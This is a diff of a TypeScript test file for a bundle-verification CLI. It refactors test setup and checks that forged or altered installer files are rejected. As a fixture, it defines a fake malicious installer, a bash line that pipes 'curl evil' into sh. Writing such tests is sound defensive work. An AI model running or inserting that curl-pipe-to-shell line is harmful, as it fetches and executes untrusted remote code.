@@ -1,41 +1,39 @@
 import { createHash } from 'node:crypto';
-import { cp, mkdtemp, rm } from 'node:fs/promises';
-import { tmpdir } from 'node:os';
+import { cp } from 'node:fs/promises';
 import { join } from 'node:path';
 
-import { afterEach, beforeEach, expect, test } from 'vitest';
+import { expect, test } from 'vitest';
 
 import { writeBundle } from '../../src/bundle/make/write-bundle.ts';
 import { parseTargetTag } from '../../src/core/target.ts';
 import { makeBottle } from '../support/brew/bottle.ts';
 import { forge } from '../support/brew/forge.ts';
+import { cliHome, type CliHome } from '../support/cli/cli-home.ts';
 import { runCli, type CliResult } from '../support/cli/run-cli.ts';
 
 const EVIL = '#!/bin/bash\ncurl evil | sh\n';
 
-let home: string;
-
-beforeEach(async () => {
-  home = await mkdtemp(join(tmpdir(), 'brewpull-strange-'));
-  const item = await makeBottle(join(home, 'bottles'), { formula: 'a', stubs: ['cmake'] });
+async function homeWithBundle(): Promise<CliHome> {
+  const home = await cliHome();
+  const item = await makeBottle(home.at('bottles'), { formula: 'a', stubs: ['cmake'] });
   const targets = [{ target: parseTargetTag('big_sur'), items: [item] }];
   const contents = { targets, lock: undefined, receipts: [] };
-  await writeBundle(contents, { path: join(home, 'linked'), format: 'folder' });
-  await cp(join(home, 'linked'), join(home, 'b'), { recursive: true });
-});
-afterEach(() => rm(home, { recursive: true, force: true }));
-
-function brewpull(...argv: readonly string[]): Promise<CliResult> {
-  return runCli([...argv, '--cache-dir', join(home, 'cache')], { cwd: home });
+  await writeBundle(contents, { path: home.at('work/linked'), format: 'folder' });
+  await cp(home.at('work/linked'), home.at('work/b'), { recursive: true });
+  return home;
 }
 
-async function claim(version: string, name = 'brewpull'): Promise<void> {
-  await forge(join(home, 'b'), 'bundle.json', (text) =>
+function brewpull(home: CliHome, ...argv: readonly string[]): Promise<CliResult> {
+  return home.run(argv);
+}
+
+async function claim(home: CliHome, version: string, name = 'brewpull'): Promise<void> {
+  await forge(join(home.work, 'b'), 'bundle.json', (text) =>
     text
       .replace('"version": "0.1.0"', `"version": "${version}"`)
       .replace('"name": "brewpull"', `"name": "${name}"`),
   );
-  await forge(join(home, 'b'), 'README.txt', (text) =>
+  await forge(join(home.work, 'b'), 'README.txt', (text) =>
     text.replace('brewpull 0.1.0', `${name} ${version}`),
   );
 }
@@ -47,9 +45,10 @@ test.each([
 ])(
   'an installer that nobody knows is no sound one, whoever is said to have made it (%s of %s)',
   async (version, name) => {
-    await claim(version, name);
-    await forge(join(home, 'b'), 'install.sh', () => EVIL);
-    const verified = await brewpull('verify', 'b');
+    await using home = await homeWithBundle();
+    await claim(home, version, name);
+    await forge(join(home.work, 'b'), 'install.sh', () => EVIL);
+    const verified = await brewpull(home, 'verify', 'b');
     const sum = createHash('sha256').update(EVIL).digest('hex');
 
     expect(verified.code).toBe(4);
@@ -62,7 +61,7 @@ test.each([
       ['serve', 'b', '--port', '0'],
       ['push', 'b', 'http://127.0.0.1:1/x'],
     ]) {
-      const refused = await runCli(argv, { cwd: home });
+      const refused = await runCli(argv, { cwd: home.work });
       expect(refused.code).toBe(4);
       expect(refused.stderr).toContain('install.sh is not an installer that brewpull 0.1.0 knows');
     }
@@ -76,9 +75,10 @@ test.each([
   ['installer/targets.tsv'],
   ['README.txt'],
 ])('%s is derived again whatever version the bundle names', async (file) => {
-  await claim('0.0.9');
-  await forge(join(home, 'b'), file, (text) => `${text}# more\n`);
-  const { code, stdout } = await brewpull('verify', 'b');
+  await using home = await homeWithBundle();
+  await claim(home, '0.0.9');
+  await forge(join(home.work, 'b'), file, (text) => `${text}# more\n`);
+  const { code, stdout } = await brewpull(home, 'verify', 'b');
 
   expect(code).toBe(4);
   expect(stdout).toContain(
@@ -87,14 +87,19 @@ test.each([
 });
 
 test('a bundle of another version whose installer and derived files are known is sound', async () => {
-  await claim('0.1.1');
+  await using home = await homeWithBundle();
+  await claim(home, '0.1.1');
 
-  expect(await brewpull('verify', 'b')).toMatchObject({ code: 0, stdout: 'b: ok, 1 bottle\n' });
+  expect(await brewpull(home, 'verify', 'b')).toMatchObject({
+    code: 0,
+    stdout: 'b: ok, 1 bottle\n',
+  });
 });
 
 test('a forged installer of this version is found as before', async () => {
-  await forge(join(home, 'b'), 'install.sh', () => EVIL);
-  const { code, stdout } = await brewpull('verify', 'b');
+  await using home = await homeWithBundle();
+  await forge(join(home.work, 'b'), 'install.sh', () => EVIL);
+  const { code, stdout } = await brewpull(home, 'verify', 'b');
 
   expect(code).toBe(4);
   expect(stdout).toContain('install.sh is not the installer of brewpull 0.1.0, whose sha256 is');
